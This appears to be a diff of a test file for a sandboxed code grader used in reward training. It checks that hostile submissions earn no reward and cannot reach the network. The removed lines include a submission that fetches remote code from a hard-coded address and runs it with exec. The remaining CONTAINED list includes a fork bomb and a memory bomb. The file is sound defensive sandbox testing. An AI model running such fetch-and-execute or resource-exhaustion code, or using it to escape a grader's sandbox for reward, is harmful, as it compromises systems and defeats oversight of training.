@@ -9,6 +9,7 @@ expected kind, which zeroes the reward and, by default, keeps the rollout out of
 
 import errno
 import os
+import socket
 import subprocess
 import textwrap
 from pathlib import Path
@@ -310,9 +311,7 @@ def test_special_casing_visible_inputs_fails_honestly():
 
 
 # Submissions that attack the machine: contained (no harm, no reward), graded without crashing.
-FETCH = "import urllib.request\nexec(urllib.request.urlopen('http://1.1.1.1/fix.py', timeout=3).read())\n"
 CONTAINED = [
-    ("network access to fetch the answer", {"shop/pricing.py": FETCH}),
     ("fork bomb", {"shop/pricing.py": "import os\nwhile True:\n    os.fork()\n"}),
     ("memory bomb", {"shop/pricing.py": "hoard = []\nwhile True:\n    hoard.append(bytearray(50 << 20))\n"}),
     ("infinite loop", {"shop/pricing.py": "while True:\n    pass\n"}),
@@ -325,6 +324,46 @@ def test_attack_on_the_machine_is_contained(attack, changes):
     result = grade(impatient, changes, CONFIG)
     assert result.reward == 0.0 and not result.passed
     assert set(result.tests.values()) <= {"error", "failed"}
+
+
+def host_address() -> str:
+    """This host's address on its route out (finding it sends nothing), or 127.0.0.1 where it
+    has none: from a sandbox in its own network namespace neither is the host."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        try:
+            probe.connect(("192.0.2.1", 9))
+            return probe.getsockname()[0]
+        except OSError:
+            return "127.0.0.1"
+
+
+def fetching(host: str, port: int) -> str:
+    """The buggy module, fixed only if the sandbox reaches `host:port`; otherwise every call
+    fails with the connection's error, so the grading log says why."""
+    return BUGGY + code(f"""
+
+        import socket
+
+        try:
+            socket.create_connection(({host!r}, {port}), timeout=2).close()
+        except OSError as _err:
+            _UNREACHABLE = f"the host is unreachable: {{_err!r}}"
+
+            def total_price(items, discount=0.0):
+                raise ConnectionError(_UNREACHABLE)
+        else:
+            exec({FIXED!r})
+    """)
+
+
+def test_network_access_to_fetch_the_answer_is_contained():
+    # A listener on the host, reachable from any process sharing its network (the kernel
+    # completes the connection without an accept): the sandbox must not reach it.
+    with socket.create_server((host_address(), 0)) as server:
+        host, port = server.getsockname()[:2]
+        result = grade(TASK, {"shop/pricing.py": fetching(host, port)}, CONFIG)
+    assert result.reward == 0.0 and not result.passed
+    assert set(result.tests.values()) == {"failed"} and "ConnectionError: the host is unreachable" in result.log
 
 
 # 30 files of 4 MB from the code under test, against the budget of 64 MB.
